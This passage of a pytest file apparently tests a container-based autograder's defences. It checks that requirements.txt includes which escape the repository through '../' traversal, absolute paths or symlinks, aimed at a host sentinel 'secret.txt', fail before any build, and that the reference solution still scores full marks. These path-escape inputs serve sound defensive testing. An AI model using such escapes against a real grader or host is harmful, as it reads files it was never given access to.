    import io

    opened: list[str] = []
    real_os_open, real_open = os.open, builtins.open

    def spy_os_open(path, *args, **kwargs):  # type: ignore[no-untyped-def]
        if isinstance(path, str | bytes | os.PathLike):
            opened.append(os.path.realpath(path))
        return real_os_open(path, *args, **kwargs)

    def spy_open(file, *args, **kwargs):  # type: ignore[no-untyped-def]
        if isinstance(file, str | bytes | os.PathLike):
            opened.append(os.path.realpath(file))
        return real_open(file, *args, **kwargs)

    monkeypatch.setattr(os, "open", spy_os_open)
    monkeypatch.setattr(builtins, "open", spy_open)
    monkeypatch.setattr(io, "open", spy_open)
    return opened


INCLUDE_ESCAPES = [
    pytest.param("dotdot", lambda s: "../" * 16 + str(s.path).lstrip("/"), None, "is outside the repository", id="dotdot"),
    pytest.param("absolute", lambda s: str(s.path), None, "is an absolute path", id="absolute"),
    pytest.param("file-link", lambda s: "deps/extra.txt", lambda s: {"deps/extra.txt": str(s.path)},
                 "is a symbolic link", id="file-symlink"),
    pytest.param("dir-link", lambda s: "deps/" + s.path.name, lambda s: {"deps": str(s.folder)},
                 "is a symbolic link", id="directory-symlink"),
]


@pytest.mark.parametrize(("name", "include", "links", "says"), INCLUDE_ESCAPES)
def test_requirement_includes_escaping_the_repository_are_build_failed_unread(
    corpus: Corpus, monkeypatch: pytest.MonkeyPatch, name, include, links, says
):
    """`-r` to the host sentinel, by `..`, by an absolute path, through a file link or a directory link: build_failed
    naming requirements.txt line 2, before any container; the grader never opened the sentinel."""
    sentinel = corpus.sentinel
    opened = _spy_on_opens(monkeypatch)

    def make() -> Path:
        files = corpus.files_of("include_escape", INCLUDE=include(sentinel))
        return corpus.repo(files, links=links(sentinel) if links else None)  # type: ignore[arg-type]

    g = corpus.grade(f"include_escape-{name}", make)
    assert_status(g, Status.build_failed)
    assert g.report.reason.startswith("requirements.txt line 2: ") and says in g.report.reason, g.report.reason
    assert g.report.timings.boot_s == 0 and g.report.provenance.image_id is None, "an image was built"
    assert str(sentinel.path) not in opened, "the grader opened the host sentinel"
    assert_within(g, SLACK_S)
    assert_host_clean(corpus, g)


# --- after the corpus ------------------------------------------------------------------------------------


def test_reference_still_gets_full_marks_under_the_tight_limits(corpus: Corpus):
    """After the corpus, the reference solution scores max_score under the same memory, pids, CPU, disk,
    log and boot limits (only the request, test and suite limits are raised to its normal timings),
    the host sentinel is intact and nothing of any job of the corpus is left in the engine."""
    assert (REFERENCE / "requirements.txt").read_text() == FLASK_REQUIREMENTS
    g = corpus.grade(
        "reference", lambda: corpus.repo({
            str(p.relative_to(REFERENCE)): p.read_text()
            for p in REFERENCE.rglob("*")
            if p.is_file() and "__pycache__" not in p.parts and p.suffix not in (".pyc", ".db")
        }),  # type: ignore[arg-type]
        request_timeout_s=15, test_timeout_s=90, suite_timeout_s=360,
    )
    failures = [(t, m[:300]) for t, (o, m) in g.tests().items() if o != "passed"]
    assert g.report.status is Status.graded, g.summary()
    assert failures == [], failures
    assert g.report.score == g.report.max_score == 100
    assert g.report.limits_hit == [], g.summary()
    assert_within(g, graded_bound(g))
    assert_host_clean(corpus, g)
    assert corpus.sentinel.unchanged() and corpus.sentinel.folder_listing() == ["secret.txt"]
    assert leftovers(corpus.client, corpus.job_ids) == [], "resources of the corpus's jobs are left in the engine"
    seen = set().union(*(r.watch.app_containers_seen for r in corpus.results.values()))
    assert surviving_processes(seen) == []


def test_corpus_covers_every_submission_folder():
    """Every folder under submissions/ is used by a test above (no dead attack)."""
    source = Path(__file__).read_text()
    unused = [p.name for p in SUBMISSIONS.iterdir() if p.is_dir() and f'"{p.name}"' not in source]
    assert unused == []
    assert GUNICORN_REQUIREMENTS == (SUBMISSIONS / "tiny" / "requirements.txt").read_text()
